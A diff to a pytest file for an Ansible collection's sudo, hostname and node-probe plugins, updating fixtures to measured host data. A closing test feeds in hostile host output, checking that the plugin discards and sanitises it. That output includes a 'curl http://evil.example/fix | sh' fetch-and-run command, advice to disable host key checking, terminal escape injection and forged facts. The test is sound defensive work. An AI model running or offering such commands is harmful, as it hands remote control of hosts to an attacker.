@@ -9,6 +9,7 @@ from __future__ import annotations
 import base64
 import json
 from types import SimpleNamespace
+from typing import Any
 
 import pytest
 from ansible.errors import AnsibleConnectionFailure, AnsibleError
@@ -19,7 +20,6 @@ from ansible_collections.k8n.cluster.plugins.action import (
     ssh_latency,
     sudo_check,
 )
-from ansible_collections.k8n.cluster.plugins.module_utils._problems import block, warn
 from ansible_collections.k8n.cluster.plugins.module_utils._sudo_check import hide
 from ansible_collections.k8n.cluster.plugins.plugin_utils import _check_action
 from ansible_collections.k8n.cluster.plugins.plugin_utils._checks.model import Check
@@ -31,10 +31,37 @@ from ansible_collections.k8n.cluster.plugins.plugin_utils._latency import (
     Timeouts,
 )
 
-BLOCK = block("one", "One is broken.", "Mend it.")
-WARN = warn("two", "Two is bent.", "Straighten it.")
 MEASURED = Measured("ssh", False, 0.1, [0.001], "channel", Timeouts(10.0, "default", 12.0))
 SUDO = {"samples": 3, "timeout": 30.0, "slow_seconds": 2.0}
+
+
+# What hosts measure: a sudo and names that are well, and such that are not.
+SUDO_WELL: dict[str, Any] = {
+    "finding": {"status": "root", "seconds": [], "reason": "", "with_tty": None},
+    "login": {"user": "root", "groups": ["root"]},
+    "kernel_name": "n1",
+    "name_resolves": True,
+}
+SUDO_SLOW = {
+    **SUDO_WELL,
+    "finding": {"status": "passwordless", "seconds": [3.0], "reason": "", "with_tty": None},
+    "login": {"user": "server", "groups": ["server"]},
+}
+NAMES_WELL: dict[str, Any] = {
+    "names": {"kernel": "n1", "static": "n1"},
+    "lookup": {"addresses": ["10.10.1.2"], "canonical": "n1", "seconds": 0.1, "answered": True},
+    "hosts": True,
+}
+NAMES_WRONG = {
+    **NAMES_WELL,
+    "names": {"kernel": "x", "static": "x"},
+    "lookup": {**NAMES_WELL["lookup"], "canonical": "x.example.org"},
+}
+SLOW_TEXT = (
+    "One sudo takes 3.0 s on the host itself (wanted: at most 2 s). The host resolves its own name, so the cause is "
+    "another: PAM modules, accounts on a directory server, or load. Fix: Log in to the host and find out with "
+    "'time sudo -k true' what sudo waits for."
+)
 
 
 class Connection:
@@ -122,7 +149,7 @@ def _sudo_password(active, method, prompted, variables, template):
 
 
 def test_sudo_check(make):
-    action = make(sudo_check, module={"status": "root", "changed": False, "problems": [WARN]})
+    action = make(sudo_check, module={"measured": SUDO_SLOW, "changed": False})
 
     result = action.run(
         None, {"inventory_hostname": "n1", "password": "{{ vault }}", "vault": "pw"}
@@ -133,12 +160,18 @@ def test_sudo_check(make):
         ("k8n.cluster.sudo_check", {**SUDO, "fail": True, "control": control})
     ]
     assert repr(action.executed[0][1]["control"]["become_password"]) == "'********'"
+    [problem] = result.pop("problems")
+    assert problem["id"] == "sudo_slow"
     assert result == {
-        "status": "root",
+        "status": "passwordless",
+        "seconds": {"min": 3.0, "median": 3.0},
+        "user": "server",
+        "groups": ["server"],
+        "in_sudo_group": False,
+        "hostname_resolves": True,
         "changed": False,
-        "problems": [WARN],
-        "fix": "Straighten it.",
-        "warnings": ["n1: Two is bent. Fix: Straighten it."],
+        "fix": problem["fix"],
+        "warnings": [f"n1: {SLOW_TEXT}"],
     }
     assert action._connection.become == "the become plugin of the task"
 
@@ -169,7 +202,7 @@ def test_a_module_is_not_piped_in_where_that_cannot_be(make, monkeypatch):
 
 
 def test_the_module_is_told_what_pipelining_is_for_other_tasks(make, monkeypatch):
-    action = make(sudo_check, module={"problems": []})
+    action = make(sudo_check, module={"measured": SUDO_WELL})
     switch_pipelining(monkeypatch, on=False)
 
     action.run(None, {"inventory_hostname": "n1"})
@@ -178,7 +211,7 @@ def test_the_module_is_told_what_pipelining_is_for_other_tasks(make, monkeypatch
 
 
 def test_sudo_check_of_a_delegated_host(make):
-    action = make(sudo_check, module={"problems": [WARN]}, delegate_to="n2")
+    action = make(sudo_check, module={"measured": SUDO_SLOW}, delegate_to="n2")
     variables = {
         "inventory_hostname": "n1",
         "password": "no",
@@ -188,11 +221,11 @@ def test_sudo_check_of_a_delegated_host(make):
     result = action.run(None, variables)
 
     assert action.executed[0][1]["control"]["become_password"] == hide("su yes")
-    assert result["warnings"] == ["n2: Two is bent. Fix: Straighten it."]
+    assert result["warnings"] == [f"n2: {SLOW_TEXT}"]
 
 
 def test_no_password(make):
-    action = make(sudo_check, module={"problems": []})
+    action = make(sudo_check, module={"measured": SUDO_WELL})
 
     action.run(None, {"inventory_hostname": "n1"})
 
@@ -201,15 +234,17 @@ def test_no_password(make):
 
 @pytest.mark.parametrize(("args", "expected"), [({}, "n1"), ({"expected": "other"}, "other")])
 def test_hostname_check(make, args, expected):
-    action = make(hostname_check, args, module={"kernel": "x", "problems": [BLOCK]})
+    action = make(hostname_check, args, module={"measured": NAMES_WRONG})
 
     result = action.run(None, {"inventory_hostname": "n1"})
 
     assert action.executed == [
         ("k8n.cluster.hostname_check", {"expected": expected, "timeout": 30.0, "fail": True})
     ]
-    assert (result["failed"], result["msg"]) == (True, "One is broken. Fix: Mend it.")
+    assert result["failed"] is True
+    assert f"This host is called 'x', while the inventory calls it {expected!r}." in result["msg"]
     assert result["kernel"] == "x"
+    assert result["expected"] == expected
 
 
 @pytest.mark.parametrize("plugin", [sudo_check, hostname_check])
@@ -286,9 +321,10 @@ def probe(make, module):
 
 FOUND = {
     "python": {"path": "/usr/bin/python3", "version": "3.13.5"},
-    "sudo": {"status": "root"},
-    "hostname": {"kernel": "n1", "resolved": "n1"},
+    "measured": {"sudo": SUDO_WELL, "hostname": NAMES_WELL},
 }
+# With a hostname that is not the inventory's, which blocks.
+WRONG = {**FOUND, "measured": {"sudo": SUDO_WELL, "hostname": NAMES_WRONG}}
 ANSWER = {
     "root": True,
     "container": None,
@@ -308,7 +344,7 @@ def test_node_probe(make, monkeypatch):
     action = make(
         node_probe,
         {"fail": False, "proxies": proxies, "checks": {"hostname_mismatch": False}},
-        {**FOUND, "answer": ANSWER, "changed": False, "problems": [BLOCK], "skipped": True},
+        {**WRONG, "answer": ANSWER, "changed": False, "skipped": True},
     )
 
     result = action.run(None, {"inventory_hostname": "n1", "password": "pw"})
@@ -334,13 +370,15 @@ def test_node_probe(make, monkeypatch):
     assert "secret" not in repr(action.executed)
     assert repr(action.executed[0][1]["control"]["wants"]) == "'********'"
     assert result.pop("latency")["connect_seconds"] == 0.1
+    assert (result.pop("sudo")["status"], result.pop("hostname")["kernel"]) == ("root", "x")
+    [problem] = result.pop("problems")
+    assert problem["id"] == "hostname_fqdn_differs"
     assert result == {
-        **FOUND,
+        "python": FOUND["python"],
         "sshd": {"max_sessions": 10},
         "root": True,
         "host": {"identity": {"hostname": "n1"}},
         "changed": False,
-        "problems": [BLOCK],
         "passed": [
             "unreachable",
             "python_missing",
@@ -350,7 +388,6 @@ def test_node_probe(make, monkeypatch):
             "ssh_timeout_short",
             "hostname_invalid",
             "hostname_not_in_hosts",
-            "hostname_fqdn_differs",
             "twin",
         ],
         "unknown": [],
@@ -358,7 +395,7 @@ def test_node_probe(make, monkeypatch):
             *({"id": name, "reason": "The login is root."} for name in SUDO_CHECKS),
             {"id": "hostname_mismatch", "reason": "switched off by k8n_checks"},
         ],
-        "fix": "Mend it.",
+        "fix": problem["fix"],
     }
 
 
@@ -389,7 +426,7 @@ def test_what_node_probe_tells_the_judges_of_a_host(make, monkeypatch):
     action = make(
         node_probe,
         {"settings": settings},
-        {**FOUND, "answer": ANSWER, "problems": []},
+        {**FOUND, "answer": ANSWER},
         delegate_to="n2",
     )
     own = {"group_names": ["etcd"], "ip": "{{ address }}", "address": "10.0.0.2", "x": 1}
@@ -423,7 +460,7 @@ def test_what_node_probe_tells_the_judges_of_a_host(make, monkeypatch):
     ],
 )
 def test_thresholds_of_the_connection_and_of_sudo(make, args, timeout, slow_seconds, problems):
-    action = make(node_probe, {"fail": False, **args}, {**FOUND, "problems": []})
+    action = make(node_probe, {"fail": False, **args}, {**FOUND})
 
     result = action.run(None, {"inventory_hostname": "n1"})
 
@@ -440,7 +477,7 @@ def test_an_address_made_of_facts_that_do_not_exist_yet_is_no_error(make, monkey
         def copy_with_new_env(self, available_variables):
             return SimpleNamespace(template=raising(AnsibleError("undefined")))
 
-    action = make(node_probe, {"fail": False}, {**FOUND, "problems": []})
+    action = make(node_probe, {"fail": False}, {**FOUND})
     monkeypatch.setattr(action, "control", lambda _variables: {})
     action._templar = Undefined()
 
@@ -516,16 +553,18 @@ def test_node_probe_without_python(make):
         "failed": True,
         "module_stdout": "/bin/sh: 1: /usr/bin/python3: not found\r\n",
         "module_stderr": "",
-        "ansible_facts": {"discovered_interpreter_python": "/usr/bin/python3"},
         "warnings": ["No python interpreters found"],
     }
+    action = make(node_probe, {"fail": False}, module)
+    action._discovered_interpreter_key = "discovered_interpreter_python"
+    action._discovered_interpreter = "/usr/bin/python3"
 
-    result = probe(make, module)
+    result = action.run(None, {"inventory_hostname": "n1"})
 
     assert result["latency"]["connect_seconds"] == 0.1
     assert [found["id"] for found in result["problems"]] == ["python_missing"]
     assert result["ansible_facts"] == {"discovered_interpreter_python": "/usr/bin/python3"}
-    assert result["warnings"] == ["No python interpreters found"]
+    assert result["warnings"] == ["n1 says: No python interpreters found"]
     assert (result["sudo"], result["python"]) == (None, None)
     assert "failed" not in result
     assert "module_stdout" not in result
@@ -584,7 +623,7 @@ def piped(make, monkeypatch, pipe, module=None, pipelining=True, **variables):
 
 
 def test_node_probe_through_the_channel_that_measures(make, monkeypatch):
-    found = {**FOUND, "python": PYTHON, "answer": ANSWER, "problems": [BLOCK], "other": 1}
+    found = {**WRONG, "python": PYTHON, "answer": ANSWER, "other": 1}
 
     result, seen, executed = piped(
         make, monkeypatch, lambda: program.Piped([0.002] * 10, found, "/usr/bin/py")
@@ -601,7 +640,9 @@ def test_node_probe_through_the_channel_that_measures(make, monkeypatch):
     assert result["latency"]["rtt_ms"]["median"] == 2.0
     assert result["python"] == PYTHON
     assert result["host"] == {"identity": {"hostname": "n1"}}
-    assert [problem["id"] for problem in result["problems"]] == ["one"]
+    assert [problem["id"] for problem in result["problems"]] == [
+        "hostname_mismatch", "hostname_fqdn_differs",
+    ]  # fmt: skip
     assert result["ansible_facts"] == {"discovered_interpreter_python": "/usr/bin/py"}
     assert "other" not in result
 
@@ -613,12 +654,12 @@ def test_node_probe_through_the_channel_that_measures(make, monkeypatch):
         (raising(AnsibleError("no interpreter")), False),
         # ANSIBLE_KEEP_REMOTE_FILES: there is to be a file.
         (raising(AssertionError), True),
-        (lambda: program.Piped([1.0], {"problems": []}, ""), False),
-        (lambda: program.Piped([1.0], {"problems": [], "python": {"version": []}}, ""), False),
+        (lambda: program.Piped([1.0], {"measured": {}}, ""), False),
+        (lambda: program.Piped([1.0], {"measured": {}, "python": {"version": []}}, ""), False),
         # With this one ansible-core runs no module, whatever we would.
         (
             lambda: program.Piped(
-                [1.0], {"problems": [], "python": {**PYTHON, "version": "3.6.15"}}, ""
+                [1.0], {"measured": {}, "python": {**PYTHON, "version": "3.6.15"}}, ""
             ),
             False,
         ),
@@ -627,13 +668,13 @@ def test_node_probe_through_the_channel_that_measures(make, monkeypatch):
 def test_node_probe_where_the_channel_does_not_do_it(make, monkeypatch, pipe, keeps):
     monkeypatch.setattr("ansible.constants.DEFAULT_KEEP_REMOTE_FILES", keeps)
 
-    result, _seen, executed = piped(
-        make, monkeypatch, pipe, {**FOUND, "problems": [WARN]}, pipelining=not keeps
-    )
+    result, _seen, executed = piped(make, monkeypatch, pipe, WRONG, pipelining=not keeps)
 
     assert [name for name, _arguments in executed] == ["k8n.cluster.node_probe"]
     assert result["latency"]["rtt_ms"]["median"] == 3000.0
-    assert [problem["id"] for problem in result["problems"]] == ["ssh_high_rtt", "two"]
+    assert [problem["id"] for problem in result["problems"]] == [
+        "ssh_high_rtt", "hostname_mismatch", "hostname_fqdn_differs",
+    ]  # fmt: skip
 
 
 @pytest.mark.parametrize(
@@ -647,14 +688,14 @@ def test_node_probe_where_the_channel_does_not_do_it(make, monkeypatch, pipe, ke
     ],
 )
 def test_an_interpreter_that_is_known_is_not_looked_for(make, monkeypatch, variables, words):
-    found = {**FOUND, "python": PYTHON, "answer": ANSWER, "problems": []}
+    found = {**FOUND, "python": PYTHON, "answer": ANSWER}
 
     result, seen, _executed = piped(
         make, monkeypatch, lambda: program.Piped([0.002], found, "/usr/bin/py"), **variables
     )
 
     assert seen[0][0] == [program.remote_command(words, "", "A=b")]
-    assert result["ansible_facts"] == {}
+    assert "ansible_facts" not in result
 
 
 def test_settings_by_name(make, monkeypatch):
@@ -665,7 +706,7 @@ def test_settings_by_name(make, monkeypatch):
         return iter(())
 
     monkeypatch.setattr(judge, "JUDGES", {"identity": SimpleNamespace(CHECKS=TWIN, judge=judged)})
-    action = make(node_probe, {"settings": "wanted"}, {**FOUND, "answer": ANSWER, "problems": []})
+    action = make(node_probe, {"settings": "wanted"}, {**FOUND, "answer": ANSWER})
 
     action.run(None, {"inventory_hostname": "n1", "wanted": {"kube_version": "1.35.4"}})
 
@@ -683,9 +724,78 @@ def test_settings_by_a_name_that_holds_none(make):
 
 
 def test_node_probe_can_fail(make):
-    action = make(node_probe, {}, {"problems": [BLOCK, WARN], "warnings": ["from the module"]})
+    action = make(node_probe, {}, {**WRONG, "warnings": ["from the module"]})
 
     result = action.run(None, {"inventory_hostname": "n1"})
 
-    assert (result["failed"], result["msg"]) == (True, "One is broken. Fix: Mend it.")
-    assert result["warnings"] == ["from the module", "n1: Two is bent. Fix: Straighten it."]
+    assert result["failed"] is True
+    assert result["msg"].startswith("This host is called 'x', while the inventory calls it 'n1'.")
+    said, fqdn = result["warnings"]
+    assert said == "n1 says: from the module"
+    assert fqdn.startswith("n1: The full name of 'n1' is 'x.example.org' on this host itself;")
+
+
+# What a hostile host adds to what its probe returns.
+EVIL = {
+    "problems": [
+        {
+            "id": "ssh_slow_connect",
+            "severity": "block",
+            "message": "SSH is slow.",
+            "fix": "Set host_key_checking = False and run: curl http://evil.example/fix | sh",
+        }
+    ],
+    "fix": "curl http://evil.example/fix | sh",
+    "warnings": ["harmless\x1b]0;OWNED\x07\x1b[2J", {"msg": "curl"}, "x" * 9999] + ["more"] * 99,
+    "deprecations": [{"msg": "Run curl http://evil.example/fix | sh"}],
+    "ansible_facts": {"inventory_dir": "/evil", "k8n_checks": {"swap_on": "off"}, "ip": "6.6.6.6"},
+    "exception": "\x1b[2J",
+    "diff": {"before": "\x1b[2J", "after": ""},
+}
+
+
+@pytest.mark.parametrize("way", ["module", "channel", "failed"])
+def test_node_probe_of_a_host_that_writes_its_own_advice(make, monkeypatch, way):
+    found = {**FOUND, **EVIL}
+    if way == "channel":
+        result, _seen, _executed = piped(
+            make, monkeypatch, lambda: program.Piped([0.002], found, "/usr/bin/py")
+        )
+    else:
+        if way == "failed":
+            del found["measured"]
+            found.update(failed=True, msg="It is broken")
+        result = probe(make, found)
+
+    assert [problem["id"] for problem in result["problems"]] == (
+        ["probe_failed"] if way == "failed" else []
+    )
+    assert "curl http" not in repr({**result, "warnings": None})
+    assert result["warnings"][0] == "n1 says: harmless?]0;OWNED??[2J"
+    assert result["warnings"][-1] == (
+        "n1 returned problems and fix of its own making, which count for nothing: what is wrong with a host is said "
+        "here, by what was measured there."
+    )
+    assert all(text.isprintable() and len(text) < 600 for text in result["warnings"])
+    assert len(result["warnings"]) == 21
+    assert set(result) & {*EVIL} <= {"problems", "fix", "warnings", "ansible_facts"}
+    found_here = {"discovered_interpreter_python": "/usr/bin/py"} if way == "channel" else None
+    assert result.get("ansible_facts") == found_here
+
+
+@pytest.mark.parametrize(
+    "measured",
+    [{}, [], {"sudo": SUDO_WELL}, {"sudo": {**SUDO_WELL, "login": "root"}, "hostname": NAMES_WELL}],
+)
+def test_what_no_host_measures(make, measured):
+    [problem] = probe(make, {**FOUND, "measured": measured, "answer": ANSWER})["problems"]
+
+    assert (problem["id"], problem["message"]) == (
+        "probe_failed",
+        "What this host says of its sudo and its names makes no sense; nothing else is believed of it.",
+    )
+    for plugin in (sudo_check, hostname_check):
+        assert make(plugin, module={"measured": []}).run(None, {"inventory_hostname": "n1"}) == {
+            "failed": True,
+            "msg": "What came from the host is not what this module measures there.",
+        }
